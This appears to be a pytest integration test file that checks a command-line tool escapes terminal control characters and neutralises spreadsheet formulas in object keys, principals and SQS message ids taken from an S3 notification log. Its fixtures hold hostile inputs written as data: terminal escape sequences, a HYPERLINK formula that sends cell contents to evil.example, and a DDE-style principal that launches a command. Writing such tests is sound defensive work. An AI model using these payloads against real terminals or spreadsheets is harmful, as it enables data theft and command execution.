"""Keys, principals and message ids come from whoever could write to the bucket or the queue:
the command line must not let them drive a terminal or a spreadsheet."""

import csv
import io
import json
from pathlib import Path

import pytest

from tests.integration.test_cli import Run
from tests.notification_factory import notification, s3_record, sequencer_of, sqs_lambda_event

EVIL_KEY = "reports/\x1b]0;owned\x07\x1b[2J\r\nfake row\t\x9b31m\u202efdp.exe"
FORMULA_KEY = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Run:
    return Run(f"sqlite:///{tmp_path / 'cli.db'}", capsys)


@pytest.fixture
def evil(run: Run, tmp_path: Path) -> Run:
    # Given the log holds objects whose keys carry terminal escapes and a formula
    path = tmp_path / "evil.jsonl"
    records = [
        s3_record("acme", EVIL_KEY, sequencer=sequencer_of(1), version_id="v1"),
        s3_record("acme", FORMULA_KEY, sequencer=sequencer_of(2), version_id="v2",
                  principal="@SUM(1+1)*cmd|' /C calc'!A0"),
    ]  # fmt: skip
    path.write_text("".join(json.dumps(notification([r])) + "\n" for r in records))
    code, _, err = run("ingest", str(path))
    assert code == 0, err
    return run


@pytest.mark.parametrize(
    "command",
    [["events"], ["objects"], ["history", f"s3://acme/{EVIL_KEY}"]],
    ids=["events", "objects", "history"],
)
def test_tables_show_control_characters_escaped(evil: Run, command: list[str]) -> None:
    # When a table is printed
    code, out, _ = evil(*command)
    # Then no control character reaches the terminal, each row stays one line, and the key
    # is shown with its controls spelled out
    assert code == 0
    assert not any(ch in out for ch in "\x1b\x07\r\t\x9b\u202e")
    expected_rows = 1 if command[0] == "history" else 2
    assert len(out.splitlines()) == 2 + expected_rows + 1
    assert "reports/\\x1b]0;owned\\x07\\x1b[2J\\r\\nfake row\\t\\x9b31m\\u202efdp.exe" in out


def test_csv_cells_cannot_start_formulas(evil: Run) -> None:
    code, out, _ = evil("events", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    by_key = {row["key"]: row for row in rows}
    assert by_key["'" + FORMULA_KEY]["principal_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert EVIL_KEY in by_key  # not a formula: kept as it is, quoted by the CSV writer


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_keeps_the_keys_exact(evil: Run, fmt: str) -> None:
    code, out, _ = evil("objects", "--format", fmt)
    assert code == 0
    rows = json.loads(out) if fmt == "json" else [json.loads(x) for x in out.splitlines()]
    assert sorted(row["key"] for row in rows) == sorted([EVIL_KEY, FORMULA_KEY])


def test_failure_reports_escape_attacker_chosen_message_ids(run: Run, tmp_path: Path) -> None:
    # Given a Lambda SQS event whose message id carries a terminal escape and whose body is
    # not a notification
    event = sqs_lambda_event([notification([s3_record("acme", "a.txt")])], via_sns=False)
    event["Records"][0]["messageId"] = "id\x1b]0;owned\x07"
    event["Records"][0]["body"] = "{not json"
    path = tmp_path / "lambda.json"
    path.write_text(json.dumps(event))
    # When it is ingested
    code, _, err = run("ingest", str(path))
    # Then the failure names the message with its controls escaped
    assert code == 1
    assert "\x1b" not in err
    assert "failed message id\\x1b]0;owned\\x07: SQS message body is not JSON" in err
